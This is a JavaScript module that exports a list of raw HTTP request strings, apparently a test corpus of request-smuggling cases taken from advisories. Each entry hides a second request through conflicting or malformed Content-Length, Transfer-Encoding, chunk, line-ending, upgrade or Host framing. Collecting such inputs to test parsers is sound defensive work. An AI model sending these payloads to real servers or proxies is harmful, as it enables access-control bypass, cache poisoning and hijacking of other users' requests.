// Requests in which two parsers see different boundaries, from advisories and the literature.
// Each is followed by a second request, or by what one parser takes for one.

const inner = 'GET /inner HTTP/1.1\r\nHost: a\r\n\r\n';
const post = 'POST / HTTP/1.1\r\nHost: a\r\n';

/** @type {readonly string[]} */
export const smuggled = [
  // Both framings, in either order.
  `${post}Content-Length: ${inner.length + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
  `${post}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5\r\nhello\r\n0\r\n\r\n`,
  `${post}Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
  `${post}Transfer-Encoding: identity\r\nContent-Length: 5\r\n\r\nhello`,
  // Two lengths, alike and not.
  `${post}Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello`,
  `${post}Content-Length: 0\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
  `${post}Content-Length: 5\r\ncontent-length: 6\r\n\r\nhello!`,
  `${post}Content-Length: 5\r\nContent-Length:\r\n\r\nhello`,
  // Names and values that one reader doesn't recognise.
  ...[
    ...[
      'Transfer-Encoding : chunked',
      'Transfer-Encoding: xchunked',
      'Transfer-Encoding:\tchunked',
      ' Transfer-Encoding: chunked',
    ],
    ...[
      'X: X\nTransfer-Encoding: chunked',
      'X: X\rTransfer-Encoding: chunked',
      'Transfer-Encoding\n: chunked',
      'Transfer-Encoding:\n chunked',
    ],
    ...[
      'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
      'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
    ],
    ...[
      'Transfer-Encoding:\x0bchunked',
      'Transfer-Encoding: chunked\x0b',
      'Transfer-Encoding: "chunked"',
      'Transfer\0-Encoding: chunked',
    ],
    ...[
      'Transfer-Encoding: chunked, identity',
      'Transfer-Encoding: identity, chunked',
      'Transfer-Encoding:\r\n chunked',
    ],
    ...[
      'Foo: bar\r\n\rTransfer-Encoding: chunked',
      'Foo: bar\r\n\r\rTransfer-Encoding: chunked',
      'Transfer-Encoding:chunked',
    ],
  ].map((line) => `${post}Content-Length: ${inner.length + 5}\r\n${line}\r\n\r\n0\r\n\r\n${inner}`),
  ...[
    'Content-Length : 5',
    'Content-Length: +5',
    'Content-Length: 5, 5',
    'Content-Length: 0x5',
    'Content-Length: 5\r\n ',
    'Content_Length: 5',
  ].map((line) => `${post}${line}\r\n\r\nhello${inner}`),
  // Lines that end otherwise.
  `GET / HTTP/1.1\r\nHost: a\r\n\r\rGET /inner HTTP/1.1\r\nHost: a\r\n\r\n`,
  `GET / HTTP/1.1\r\nHost: a\r\n\rX: GET /inner HTTP/1.1\r\n\r\n`,
  `GET / HTTP/1.1\nHost: a\n\n${inner}`,
  `GET / HTTP/1.1\r\nHost: a\n\r\n${inner}`,
  `GET / HTTP/1.1\r\nHost: a\r\nX: a\rb\r\n\r\n${inner}`,
  `GET / HTTP/1.1\r\nHost: a\r\nX:\r\n y: z\r\n\r\n${inner}`,
  // Chunks that one reader measures otherwise.
  `${post}Transfer-Encoding: chunked\r\n\r\n5\nhello\n0\n\n${inner}`,
  `${post}Transfer-Encoding: chunked\r\n\r\n5;\nhello\r\n0\r\n\r\n${inner}`,
  `${post}Transfer-Encoding: chunked\r\n\r\n5;a="\r\n"\r\nhello\r\n0\r\n\r\n${inner}`,
  `${post}Transfer-Encoding: chunked\r\n\r\n0x5\r\nhello\r\n0\r\n\r\n${inner}`,
  `${post}Transfer-Encoding: chunked\r\n\r\n5 \r\nhello\r\n0\r\n\r\n${inner}`,
  `${post}Transfer-Encoding: chunked\r\n\r\n5\r\nhelloXX0\r\n\r\n${inner}`,
  `${post}Transfer-Encoding: chunked\r\n\r\n10000000000000005\r\nhello\r\n0\r\n\r\n${inner}`,
  `${post}Transfer-Encoding: chunked\r\n\r\n5\r\nhello0\r\n\r\n${inner}`,
  `${post}Transfer-Encoding: chunked\r\n\r\n0\r\n${inner}`,
  `${post}Transfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 5\r\n\r\nhello${inner}`,
  // Bodies where none is expected.
  `GET / HTTP/1.1\r\nHost: a\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
  `HEAD / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nhello${inner}`,
  `GET / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n${inner}`,
  `DELETE / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nhello${inner}`,
  `POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n`,
  `POST / HTTP/1.0\r\nConnection: keep-alive\r\nContent-Length: 5\r\n\r\nhello${inner}`,
  // Expectation, upgrade, CONNECT: the next bytes may not be HTTP.
  `${post}Expect: 100-continue\r\nContent-Length: 5\r\n\r\nhello${inner}`,
  `GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n${inner}`,
  `GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n${inner}`,
  `${post}Connection: Upgrade\r\nUpgrade: x\r\nContent-Length: 5\r\n\r\nhello${inner}`,
  `CONNECT a:80 HTTP/1.1\r\nHost: a\r\n\r\n${inner}`,
  `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${inner}`,
  // Two hosts, a host that is a path, a target that names another.
  `GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n`,
  `GET http://b/ HTTP/1.1\r\nHost: a\r\n\r\n`,
  `GET / HTTP/1.1\r\nHost: a/abc?\r\n\r\n`,
  `GET / HTTP/1.1\r\n\r\n${inner}`,
  `GET / HTTP/1.1\r\nHost: a\r\n__proto__: x\r\nconstructor: y\r\n\r\n`,
];
